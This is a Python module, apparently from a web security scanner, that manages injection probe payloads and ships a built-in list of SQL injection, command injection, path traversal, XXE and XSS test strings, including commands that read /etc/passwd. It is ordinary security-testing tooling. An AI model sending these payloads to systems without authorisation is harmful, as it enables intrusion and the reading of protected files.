"""Payload management for injection probes."""

from pathlib import Path
from typing import Any, Dict, List, Optional, Union

import yaml

from .errors import ConfigError
from .logging import get_logger

logger = get_logger("payloads")

PayloadSource = Union[str, List[str]]


class PayloadManager:
    """
    Manages attack payloads per injection class.

    Payloads can be loaded from:
    1. Custom YAML file specified at init
    2. config/payloads.yaml in the current directory
    3. Built-in default payloads

    Per-class overrides (a list, or the path of a YAML/text file) replace the
    whole category.
    """

    def __init__(
        self,
        config_path: Optional[str] = None,
        overrides: Optional[Dict[str, PayloadSource]] = None,
    ):
        self._payloads: Dict[str, Any] = {}
        self._load_payloads(config_path)
        for category, source in (overrides or {}).items():
            self.override(category, source)

    def _load_payloads(self, config_path: Optional[str] = None) -> None:
        """Load payloads from YAML file or use defaults."""
        self._payloads = self._default_payloads()

        paths_to_try = []
        if config_path:
            paths_to_try.append(Path(config_path))
        paths_to_try.append(Path.cwd() / "config" / "payloads.yaml")

        for path in paths_to_try:
            if path.exists():
                with open(path, "r", encoding="utf-8") as f:
                    loaded = yaml.safe_load(f) or {}
                if not isinstance(loaded, dict):
                    raise ConfigError(f"Payload file {path} must contain a mapping")
                self._payloads.update(loaded)
                logger.debug(f"Loaded payloads from {path}")
                return

        if config_path:
            raise ConfigError(f"Payload file not found: {config_path}")

    def _default_payloads(self) -> Dict[str, Any]:
        """Return built-in default payloads."""
        return {
            "sql_injection": {
                "error_based": ["'", "''", "' OR '1'='1", "' OR '1'='1'--", "1' ORDER BY 1--", "\")"],
                "union_based": ["' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--"],
                "time_based": ["' AND SLEEP(5)--", "'; SELECT pg_sleep(5)--", "'; WAITFOR DELAY '0:0:5'--"],
            },
            "command_injection": {
                "basic": ["; id", "| id", "&& id", "$(id)", "`id`"],
                "file_read": ["; cat /etc/passwd", "| cat /etc/passwd", "& type C:\\Windows\\win.ini"],
                "time_based": ["; sleep 5", "| sleep 5", "$(sleep 5)"],
            },
            "path_traversal": {
                "unix": ["../../../../etc/passwd", "....//....//....//etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd"],
                "windows": ["..\\..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cboot.ini"],
            },
            "xxe": {
                "file_read": [
                    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
                ],
            },
            "xss": {
                "reflected": [
                    "<script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                ],
            },
        }

    def override(self, category: str, source: PayloadSource) -> None:
        """Replace a category with a list or the contents of a file."""
        if isinstance(source, (list, tuple)):
            payloads = [str(p) for p in source]
        else:
            payloads = self._read_payload_file(Path(source))
        self._payloads[category] = {"custom": payloads}

    @staticmethod
    def _read_payload_file(path: Path) -> List[str]:
        if not path.exists():
            raise ConfigError(f"Payload file not found: {path}")
        text = path.read_text(encoding="utf-8")
        if path.suffix in (".yaml", ".yml"):
            data = yaml.safe_load(text) or []
            if isinstance(data, dict):
                return [str(p) for value in data.values() for p in (value or [])]
            return [str(p) for p in data]
        return [line for line in text.splitlines() if line.strip() and not line.startswith("#")]

    def get(self, category: str, subcategory: Optional[str] = None) -> List[Any]:
        """
        Get payloads for a category.

        Args:
            category: Main category (e.g., 'sql_injection', 'command_injection')
            subcategory: Optional subcategory (e.g., 'error_based', 'time_based')

        Returns:
            List of payloads. If subcategory is None, returns all payloads
            from all subcategories in the category.
        """
        data = self._payloads.get(category, {})

        if not data:
            return []

        if subcategory:
            result = data.get(subcategory, [])
            return result if isinstance(result, list) else [result]

        all_payloads = []
        for value in data.values():
            if isinstance(value, list):
                all_payloads.extend(value)
            else:
                all_payloads.append(value)
        return all_payloads

    def get_all(self, category: str) -> Dict[str, List[Any]]:
        """Get all subcategories for a category."""
        return self._payloads.get(category, {})

    def categories(self) -> List[str]:
        """List all available categories."""
        return list(self._payloads.keys())


_default_manager: Optional[PayloadManager] = None


def get_payloads(category: str, subcategory: Optional[str] = None) -> List[Any]:
    """Get payloads using the shared default manager."""
    global _default_manager
    if _default_manager is None:
        _default_manager = PayloadManager()
    return _default_manager.get(category, subcategory)
